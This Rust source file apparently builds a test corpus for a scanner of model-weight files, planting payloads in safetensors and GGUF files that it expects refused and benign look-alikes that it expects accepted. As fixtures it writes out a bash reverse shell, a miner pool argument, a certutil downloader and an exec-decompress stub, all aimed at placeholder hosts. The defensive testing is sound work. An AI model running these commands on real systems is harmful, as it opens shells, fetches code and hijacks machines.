//! Programs, archives, pickles and scripts among numbers, words that rules look for, and what only looks like them.

use holdfast_formats::testing::{GgufBuilder, SafetensorsBuilder, Value, stowaways, weights};

use super::Corpus;

pub fn add(corpus: &mut Corpus) {
    hidden(corpus);
    rules(corpus);
    innocent(corpus);
}

/// A safetensors file with these bytes in its one tensor.
fn safetensors(data: &[u8]) -> Vec<u8> {
    let length = data.len();
    let header = format!(r#"{{"w":{{"dtype":"U8","shape":[{length}],"data_offsets":[0,{length}]}}}}"#);
    SafetensorsBuilder::raw(header, data).bytes
}

fn among(bytes: &[u8], at: usize) -> Vec<u8> {
    let mut data = weights(8 << 10);
    data.splice(at..at + bytes.len(), bytes.iter().copied());
    data
}

fn hidden(corpus: &mut Corpus) {
    corpus.refuse("stowaways/named.onnx", safetensors(&weights(1000)), "HF-FMT-017");
    corpus.refuse("stowaways/named.h5", safetensors(&weights(1000)), "HF-FMT-017");
    for (name, finding, bytes) in stowaways() {
        let file = safetensors(&among(&bytes, 1001));
        corpus.refuse(&format!("stowaways/{name}.safetensors"), file, finding);
    }
}

fn gguf(text: &str) -> Vec<u8> {
    GgufBuilder::llama()
        .key("general.description", Value::text(text))
        .build()
        .bytes
}

fn rules(corpus: &mut Corpus) {
    for (name, text) in [
        ("reverse-shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ("miner", "stratum+tcp://pool.invalid:3333 --donate-level 1"),
        ("downloader", "certutil -urlcache -f http://192.0.2.1/x x.exe"),
        (
            "unpacks-and-runs",
            "exec(__import__('zlib').decompress(b'nothing'))",
        ),
    ] {
        let critical = "HF-YAR-001";
        corpus.refuse(&format!("rules/{name}.gguf"), gguf(text), critical);
        let data = among(text.as_bytes(), 3000);
        corpus.refuse(&format!("rules/{name}.safetensors"), safetensors(&data), critical);
    }
}

fn innocent(corpus: &mut Corpus) {
    for (name, _, bytes) in stowaways() {
        // Its first bytes, as they come about in weights, and nothing that they promise.
        let begin = bytes.get(..bytes.len().min(8)).unwrap_or_default();
        if !name.starts_with("pickle") {
            corpus.accept(
                &format!("stowaways/only-like-{name}.safetensors"),
                safetensors(&among(begin, 777)),
            );
        }
    }
    let lines = b"(see also\nios\nandroid\nwindows)\n(cos\nsin\ntan\no)\n";
    corpus.accept(
        "stowaways/words-in-lines.safetensors",
        safetensors(&among(lines, 777)),
    );
    let words = [
        "#!/bin/sh",
        "os",
        ".system",
        "subprocess",
        "curl",
        "| sh",
        "PE",
        "MZ",
        "xmrig",
        "beacon.dll",
    ];
    let file = GgufBuilder::llama()
        .set("tokenizer.ggml.tokens", Value::texts(words))
        .set(
            "tokenizer.ggml.scores",
            Value::Array(6, vec![Value::F32(0.5); words.len()]),
        )
        .set(
            "tokenizer.ggml.token_type",
            Value::Array(5, vec![Value::I32(1); words.len()]),
        );
    corpus.accept("stowaways/words.gguf", file.build().bytes);
}
